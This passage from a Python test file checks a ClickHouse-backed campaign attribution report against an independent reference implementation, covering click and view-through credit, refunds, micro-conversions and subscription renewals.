            purchase_counts[c["currency"]] += c["type"] == "purchase"
            valued[c["currency"]] += 1
    currency = query.currency if query.currency is not None else (
        sorted(valued, key=lambda k: (-purchase_counts[k], -valued[k], k))[0] if valued else "")
    refunded: dict[str, Fraction] = defaultdict(Fraction)
    in_parts: set[str] = set()  # orders a store refunded in numbered parts: together at most the purchase
    for (order_id, kind, refund_id), c in first.items():
        if kind == "refund" and c["currency"] == currency:
            refunded[order_id] += Fraction(c["value"])
            if refund_id:
                in_parts.add(order_id)
    starts: dict[str, dict[str, Any]] = {}  # subscription_id -> its earliest subscription
    for (_, kind, _), c in first.items():
        sid = c.get("subscription_id", "")
        if kind == "subscription" and (sid not in starts or c["ts"] < starts[sid]["ts"]):
            starts[sid] = c
    renewed: dict[str, Fraction] = defaultdict(Fraction)
    for (_, kind, _), c in first.items():
        if kind == "renewal" and c["currency"] == currency:
            renewed[c["subscription_id"]] += Fraction(c["value"])
    excluded = set(query.exclude_tags)

    def label(c: dict[str, Any], day: date) -> tuple[str, ...]:
        names = {"channel": "channel", "source": "utm_source", "medium": "utm_medium", "campaign": "campaign",
                 "message": "message", "content": "utm_content", "term": "utm_term", "code": "code",
                 "domain": "domain", "device_type": "device_type", "os": "os", "browser": "browser"}
        # A text has no device, OS or browser (it counts under ''); its domain is its link's, '' without one.
        return tuple(day.isoformat() if k == "day" else str(c.get(names[k], "")) for k in query.group_by)

    def window(c: dict[str, Any]) -> timedelta:
        return timedelta(seconds=query.window if query.window is not None else settings.window_for(c["channel"]))

    def view_window(m: dict[str, Any]) -> timedelta:
        return timedelta(seconds=query.view_window if query.view_window is not None
                         else settings.view_window_for(m["channel"]))

    totals: dict[tuple[str, ...], _Totals] = defaultdict(_Totals)
    for c in unique.values():
        if not query.start <= c["ts"] < query.end or excluded & set(c["tags"]):
            continue
        t = totals[label(c, c["ts"].date())]
        t.clicks += 1
        if c["is_bot"]:
            t.bot_clicks += 1
        else:
            t.human_clicks += 1
            t.clickers.add((c["recipient_ref"],) if c["recipient_ref"] else (c["ip_ref"], c["ts"].date().isoformat()))

    texts = gather_messages(messages)
    for m in texts.values():
        if not query.start <= m["first_ts"] < query.end or excluded & set(m["tags"]):
            continue
        t = totals[label(m, m["first_ts"].date())]
        t.sent += m["sent"]
        t.delivered += m["delivered_ts"] is not None
        t.failed += m["failed"]
    delivered_to: dict[str, list[dict[str, Any]]] = defaultdict(list)
    for m in texts.values():
        if m["delivered_ts"] is not None and m["recipient_ref"]:
            delivered_to[m["recipient_ref"]].append(m)

    by_recipient: dict[str, list[dict[str, Any]]] = defaultdict(list)
    for c in unique.values():
        by_recipient[c["recipient_ref"]].append(c)
    unattributed_orders, unattributed_revenue = 0, Fraction(0)
    for p in in_period:
        kind = p["type"]
        if not ((p["currency"] == currency and currency) or (not p["currency"] and kind != "purchase")):
            continue

        def eligible(c: dict[str, Any], p: dict[str, Any] = p) -> bool:
            return (not c["is_bot"] and not excluded & set(c["tags"])
                    and p["ts"] - window(c) <= c["ts"] <= p["ts"])

        named = unique.get(p["click_id"]) if p["click_id"] else None
        buyer = p["recipient_ref"] or (named["recipient_ref"] if named else "")
        if named is not None and eligible(named):
            candidates = [named]
        else:
            candidates = [c for c in by_recipient[buyer] if eligible(c)] if buyer else []
        refund_value = refunded[p["order_id"]] if kind == "purchase" else Fraction(0)
        if p["order_id"] in in_parts:
            refund_value = min(refund_value, Fraction(p["value"]))
        renewals = Fraction(0)
        if kind == "subscription" and starts[p["subscription_id"]] is p:
            renewals = renewed[p["subscription_id"]]

        def credit(t: _Totals, share: Fraction, by_view: bool, p: dict[str, Any] = p, kind: str = kind,
                   refund_value: Fraction = refund_value, renewals: Fraction = renewals) -> None:
            if kind == "purchase":
                if by_view:
                    t.view_orders += share
                    t.view_revenue += Fraction(p["value"]) * share
                else:
                    t.click_orders += share
                    t.click_revenue += Fraction(p["value"]) * share
                t.refunds += refund_value * share
            elif kind == "subscription":
                t.subscriptions += share
                t.recurring += renewals * share
            else:
                t.micro[kind] += share

        if not candidates:
            seen = [m for m in delivered_to[buyer] if not excluded & set(m["tags"]) and view_window(m)
                    and p["ts"] - view_window(m) <= m["delivered_ts"] <= p["ts"]] if buyer else []
            if not seen:
                if kind == "purchase":
                    unattributed_orders += 1
                    unattributed_revenue += Fraction(p["value"])
                continue
            last = max(seen, key=lambda m: (m["delivered_ts"], m["message_id"]))
            credit(totals[label(last, p["ts"].date())], Fraction(1), True)
            continue
        ordered = sorted(candidates, key=lambda c: (c["ts"], c["click_id"]))
        shares = {"last_click": [(ordered[-1], Fraction(1))], "first_click": [(ordered[0], Fraction(1))],
                  "linear": [(c, Fraction(1, len(ordered))) for c in ordered]}[query.model]
        for c, share in shares:
            credit(totals[label(c, p["ts"].date())], share, False)

    rows: list[dict[str, object]] = []
    for keys, t in totals.items():
        orders, revenue = t.click_orders + t.view_orders, t.click_revenue + t.view_revenue
        net = revenue - t.refunds
        row: dict[str, object] = dict(zip(query.group_by, keys, strict=True))
        row.update({
            "clicks": t.clicks, "human_clicks": t.human_clicks, "bot_clicks": t.bot_clicks,
            "unique_clickers": len(t.clickers), "orders": _round(orders, 4), "revenue": _round(revenue, 2),
            "refunds": _round(t.refunds, 2), "net_revenue": _round(net, 2),
            "aov": _round(revenue / orders, 2) if orders else None,
            "conversion_rate": _round(orders / t.human_clicks, 6) if t.human_clicks else None,
            "revenue_per_click": _round(net / t.human_clicks, 2) if t.human_clicks else None,
            "sent": t.sent, "delivered": t.delivered, "failed": t.failed,
            "delivery_rate": _round(Fraction(t.delivered, t.sent), 6) if t.sent else None,
            "click_rate": _round(Fraction(len(t.clickers), t.delivered), 6) if t.delivered else None,
            "click_orders": _round(t.click_orders, 4), "view_orders": _round(t.view_orders, 4),
            "click_revenue": _round(t.click_revenue, 2), "view_revenue": _round(t.view_revenue, 2),
            "revenue_per_message": _round(net / t.delivered, 2) if t.delivered else None,
            **{kind: _round(t.micro[kind], 4) for kind in MICRO},
            "subscriptions": _round(t.subscriptions, 4), "recurring_revenue": _round(t.recurring, 2),
        })
        rows.append(row)
    rows.sort(key=lambda r: [-r["net_revenue"], -r["clicks"], *(r[k] for k in query.group_by)])  # type: ignore
    return currency, rows, unattributed_orders, _round(unattributed_revenue, 2)


@pytest.fixture
def scenario(clickhouse: Client) -> tuple[Client, list[dict[str, Any]], list[dict[str, Any]]]:
    clicks, conversions = generate_scenario()
    insert_rows(clickhouse, clicks, conversions)
    return clickhouse, clicks, conversions


def test_generated_month_matches_an_independent_implementation_to_the_cent(
    scenario: tuple[Client, list[dict[str, Any]], list[dict[str, Any]]],
) -> None:
    client, clicks, conversions = scenario
    assert len({c["recipient_ref"] for c in clicks}) > 1500 and len(clicks) > 4000
    cases: list[Mapping[str, str]] = [
        *({"model": model} for model in MODELS),
        *({"model": model, "group_by": "channel,source,medium,message,content,term,day"} for model in MODELS),
        {"model": "linear", "group_by": "day,campaign", "window": "3d", "exclude_tags": ""},
        {"model": "last_click", "group_by": "channel", "currency": "USD", "exclude_tags": "vip"},
    ]
    seen_credit = seen_unattributed = 0
    for case in cases:
        params = {"from": "2026-11-01", "to": "2026-11-25", "exclude_tags": "test", **case}
        query = ReportQuery.from_params(params, NOW)
        report = campaign_report(client, query, ACCEPTANCE_SETTINGS)
        currency, rows, unattributed_orders, unattributed_revenue = expected_report(
            clicks, conversions, query, ACCEPTANCE_SETTINGS)
        assert report.currency == currency, case
        assert report.rows == rows, case
        assert (report.unattributed_orders, report.unattributed_revenue) == (
            unattributed_orders, unattributed_revenue), case
        parsed = list(csv.DictReader(io.StringIO(report.to_csv())))
        assert len(parsed) == len(rows) and list(parsed[0]) == [*query.group_by, *METRICS]
        seen_credit += sum(1 for row in rows if row["orders"])
        seen_unattributed += unattributed_orders
    assert seen_credit > 50 and seen_unattributed > 10  # the scenario really exercised both paths


# --- micro conversions and subscriptions ----------------------------------------------------------------

def test_micro_conversions_are_credited_like_purchases_and_counted_per_row(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("a", T - 2 * HOUR, campaign="spring"), click("b", T - HOUR, campaign="summer")],
        conversions=[
            purchase("cart-1", T, "0", type="add_to_cart", currency="", recipient_ref="r1"),
            purchase("cart-1", T + MS, "0", type="add_to_cart", currency=""),  # the same cart again
            purchase("cart-2", T, "40.00", type="checkout", click_id="a"),
            purchase("cart-3", T, "40.00", type="checkout", click_id="a", currency="USD"),  # another currency
            purchase("lead-1", T, "0", type="lead", currency="", click_id="b"),
            purchase("cart-2", T, "40.00", click_id="a"),  # the order of that checkout: a purchase apart
            purchase("new-1", T - 30 * DAY, "0", type="signup", currency="", click_id="a"),  # before the report
        ],
    )
    rows = by(run(clickhouse, model="linear"))
    assert (rows["spring"]["add_to_cart"], rows["summer"]["add_to_cart"]) == (Decimal("0.5"), Decimal("0.5"))
    assert (rows["spring"]["checkout"], rows["summer"]["checkout"]) == (Decimal(1), Decimal(0))
    assert (rows["spring"]["lead"], rows["summer"]["lead"]) == (Decimal(0), Decimal(1))
    assert rows["spring"]["signup"] == Decimal(0)
    assert (rows["spring"]["orders"], rows["spring"]["revenue"]) == (Decimal(1), Decimal("40"))


def test_a_renewal_follows_its_subscriptions_credit_in_the_same_shares(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("a", T - 2 * HOUR, campaign="spring"), click("b", T - HOUR, campaign="summer")],
        conversions=[
            purchase("1001", T, "29.00", type="subscription", subscription_id="S1", recipient_ref="r1"),
            purchase("1042", T + 30 * DAY, "29.00", type="renewal", subscription_id="S1"),
            purchase("1077", T + 60 * DAY, "29.00", type="renewal", subscription_id="S1"),  # after the report
            purchase("1078", T + 60 * DAY, "29.00", type="renewal", subscription_id="S1", currency="USD"),
            purchase("2001", T, "9.00", type="renewal", subscription_id="S-unknown"),  # nobody's
        ],
    )
    rows = by(run(clickhouse, model="linear"))
    for campaign in ("spring", "summer"):
        assert rows[campaign]["subscriptions"] == Decimal("0.5")
        assert rows[campaign]["recurring_revenue"] == Decimal("29.00")
        assert rows[campaign]["revenue"] == Decimal(0)  # recurring revenue is its own figure
    last = by(run(clickhouse))
    assert (last["summer"]["subscriptions"], last["summer"]["recurring_revenue"]) == (Decimal(1), Decimal("58.00"))
    assert last["spring"]["recurring_revenue"] == Decimal(0)
